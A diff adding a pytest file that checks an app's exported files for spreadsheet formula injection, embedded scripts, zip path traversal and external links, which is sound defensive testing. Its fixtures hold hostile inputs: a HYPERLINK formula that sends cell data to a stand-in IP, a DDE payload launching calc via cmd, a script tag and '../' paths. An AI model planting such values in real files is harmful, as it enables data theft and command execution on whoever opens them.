@@ -1,0 +1,235 @@
+"""Whatever leaves as a file, made from words meant to harm whoever opens it: found from the code, opened, and looked into."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import importlib
+import inspect
+import io
+import pkgutil
+import re
+import zipfile
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+import app.services
+from app.access.actor import COMMAND_LINE
+from app.services.back_up import back_up
+from app.services.by_hand import hand_overs
+from app.services.crisis_bag_scene import read_scene
+from app.services.crisis_bag_sections import bag_of
+from app.services.hand_out_links import hand_out_links
+from app.services.pack_crisis_bag import pack_crisis_bag
+from app.services.read_indicators import read_indicators
+from app.services.read_own_data import read_own_data
+from app.services.write_log import write_log
+from app.store import centres, community, messages, people
+from tests.services.a_month import WEEK, Month, a_month
+
+APP = Path(app.services.__file__).parents[1]
+FORMULAS = (
+    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    " ＝1+1",
+    "\u200b=1+1",
+)
+SCRIPT = "<script>alert(1)</script>"
+CLIMBS = "../../x\\..\\y"
+
+NOT_A_FILE = frozenset(
+    {
+        "app.services.remote_calendar.fetch_calendar",
+        "app.services.ways_out_smtp.mail",
+        "app.services.ways_out_webhook.content",
+        "app.services.back_up.take_out",
+    }
+)
+"""Bytes that no reader opens in an office program: what comes in, letters, and copies of the base (restored, not opened)."""
+
+
+@pytest.fixture(scope="module")
+def month(tmp_path_factory: pytest.TempPathFactory) -> Month:
+    """A past week, paid, logged and packed, where every name is a formula, a tag or a path."""
+    made = a_month(tmp_path_factory.mktemp("piege"))
+    with made.store.transaction() as conn:
+        held = community.read(conn)
+        community.write(
+            conn, replace(held, name=FORMULAS[0], coordinator=f"{FORMULAS[1]} {SCRIPT}", contact=FORMULAS[3])
+        )
+        for number, person in enumerate(people.every(conn)):
+            named = replace(
+                person, family_name=f"{FORMULAS[number % 7]}{SCRIPT}", given_name=f"{FORMULAS[-number % 7]}{CLIMBS}"
+            )
+            people.put(conn, named, made.store.now())
+        centre = centres.find(conn, made.centre)
+        assert centre is not None
+        centres.update(conn, replace(centre, name=f"{FORMULAS[0]}{CLIMBS}{SCRIPT}"))
+        conn.execute("UPDATE partner SET name = ?", (f"{FORMULAS[3]}{SCRIPT}",))
+    made.close()
+    for formula in FORMULAS:
+        write_log(COMMAND_LINE, made.store, f"{formula.strip()} {SCRIPT}", source=formula.strip())
+    pack_crisis_bag(COMMAND_LINE, made.store)
+    back_up(COMMAND_LINE, made.store)
+    return made
+
+
+def exports() -> dict[str, Callable[..., object]]:
+    """Every public function of the services that returns bytes, alone or in a tuple, or by name in a mapping."""
+    found: dict[str, Callable[..., object]] = {}
+    for module in pkgutil.iter_modules(app.services.__path__):
+        loaded = importlib.import_module(f"app.services.{module.name}")
+        for name, function in inspect.getmembers(loaded, inspect.isfunction):
+            told = str(inspect.signature(function).return_annotation)
+            if not name.startswith("_") and function.__module__ == loaded.__name__ and re.search(r"\bbytes\b", told):
+                found[f"{loaded.__name__}.{name}"] = function
+    return {name: function for name, function in found.items() if name not in NOT_A_FILE}
+
+
+def _given(month: Month) -> dict[str, Callable[[], object]]:
+    """What exports ask for, by the parameter's name or by its type as annotated."""
+    store, person = month.store, month.id("Corentin")
+
+    def queued() -> list[str]:
+        with store.reading() as conn:
+            return [one.message.id for one in messages.recent(conn).messages][:20]
+
+    def the_bag() -> object:
+        with store.reading() as conn:
+            return bag_of(read_scene(store, conn))
+
+    return {
+        "actor": lambda: COMMAND_LINE,
+        "store": lambda: store,
+        "centre_id": lambda: month.centre,
+        "session_id": lambda: month.sessions[0].id,
+        "person_id": lambda: person,
+        "period": lambda: WEEK,
+        "Period": lambda: WEEK,
+        "monday": lambda: WEEK.first,
+        "day": lambda: WEEK.first,
+        "first": lambda: WEEK.first,
+        "last": lambda: WEEK.last,
+        "today": lambda: WEEK.last,
+        "date": lambda: WEEK.first,
+        "base_url": lambda: "https://releve.exemple.fr",
+        "title": lambda: FORMULAS[0],
+        "reader": lambda: FORMULAS[1],
+        "VacationsView": month.view,
+        "IndicatorsView": lambda: read_indicators(COMMAND_LINE, store, WEEK),
+        "OwnData": lambda: read_own_data(COMMAND_LINE, store, person, page_address="ici"),
+        "Iterable[HandOut]": lambda: [
+            replace(one, name=one.name.replace("＝", "="))
+            for one in hand_out_links(COMMAND_LINE, store, month.centre, base_url="")
+        ],
+        "Iterable[HandOver]": lambda: hand_overs(COMMAND_LINE, store, queued(), ""),
+        "ids": queued,
+        "CrisisBag": the_bag,
+    }
+
+
+def made_by(export: Callable[..., object], month: Month) -> object:
+    """What an export makes; parameters with a default are left at it."""
+    given, values = _given(month), {}
+    for name, parameter in inspect.signature(export).parameters.items():
+        if parameter.default is inspect.Parameter.empty:
+            make = given.get(name) or given.get(str(parameter.annotation))
+            assert make is not None, f"{export.__name__} asks for {name}: {parameter.annotation}: give it in _given"
+            values[name] = make()
+    return export(**values)
+
+
+def files_in(made: object) -> Iterator[bytes]:
+    """The bytes an export returned, and those in a tuple of several."""
+    if isinstance(made, bytes):
+        yield made
+    elif isinstance(made, tuple | list | Mapping):
+        for part in made.values() if isinstance(made, Mapping) else made:
+            yield from files_in(part)
+
+
+def dangers(content: bytes, where: str = "") -> Iterator[str]:
+    """What would run, lead elsewhere or climb, in a file or in whatever it packs."""
+    if content.startswith(b"PK"):
+        yield from _of_archive(content, where)
+    elif content.startswith(b"%PDF"):
+        yield from (
+            f"{where}: {word!r} in a PDF" for word in (b"/JavaScript", b"/Launch", b"/OpenAction") if word in content
+        )
+    elif content.startswith(b"\xef\xbb\xbf"):
+        yield from (f"{where}: cell {cell!r}" for cell in _cells(content) if _runs(cell))
+    elif b"<html" in content[:500].lower() and SCRIPT.encode() in content:
+        yield f"{where}: its script"
+
+
+def _of_archive(content: bytes, where: str) -> Iterator[str]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        names = archive.namelist()
+        for name in names:
+            if name.startswith("/") or ".." in name or "\\" in name or any(sign < " " for sign in name):
+                yield f"{where}: a name that climbs, {name!r}"
+        if any(name.startswith("xl/") for name in names):
+            yield from _formulas(content, where)
+        elif not any(name.startswith("word/") for name in names):
+            for name in (one for one in names if not one.endswith(".txt")):
+                yield from dangers(archive.read(name), f"{where}/{name}")
+        for name in names:
+            if name.endswith(".rels") and b'TargetMode="External"' in archive.read(name):
+                yield f"{where}: leads elsewhere, {name}"
+
+
+def _formulas(content: bytes, where: str) -> Iterator[str]:
+    book = load_workbook(io.BytesIO(content))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                ours = isinstance(cell.value, str) and re.fullmatch(r"=(SUM|ROUND)\([A-Z0-9:,\-]+\)", cell.value)
+                if cell.data_type == "f" and not ours:
+                    yield f"{where}: formula {cell.value!r} in {cell.coordinate}"
+
+
+def _cells(content: bytes) -> Iterator[str]:
+    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"):
+        yield from row
+
+
+def _runs(cell: str) -> bool:
+    bare = cell.lstrip(" \u00a0\u200b\ufeff\t\r\n")
+    return cell[:1] in ("\t", "\r", "\n") or bare[:1] in ("=", "+", "-", "@", "＝")
+
+
+@pytest.mark.parametrize("name", sorted(exports()))
+def test_no_export_harms_whoever_opens_it(name: str, month: Month) -> None:
+    """No cell runs, no script, no name that climbs, nothing that leads elsewhere; and the file is there."""
+    made = list(files_in(made_by(exports()[name], month)))
+    assert made
+    assert all(len(content) > 100 for content in made)
+    assert [danger for content in made for danger in dangers(content, name)] == []
+
+
+def test_the_traps_are_in_the_exports(month: Month) -> None:
+    """The walk is a walk: the formulas do reach a CSV, behind an apostrophe."""
+    from app.services.print_log import log_csv
+
+    held = log_csv(COMMAND_LINE, month.store).decode("utf-8-sig")
+    assert "'=HYPERLINK" in held
+    assert list(dangers(b"\xef\xbb\xbf" + b"a;=1+1\r\n")) == [": cell '=1+1'"]
+
+
+def test_tables_are_written_in_one_place_only() -> None:
+    """No module writes CSV but ``csv_table``, and none makes a workbook but the slip, whose cells are text (see above)."""
+    writers: dict[str, list[str]] = {"csv": [], "xlsx": []}
+    for path in sorted(APP.rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "to_csv", "to_excel"}:
+                writers["csv"].append(path.name)
+            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Workbook":
+                writers["xlsx"].append(path.name)
+    assert writers == {"csv": ["csv_table.py"], "xlsx": ["vacation_slip.py"]}
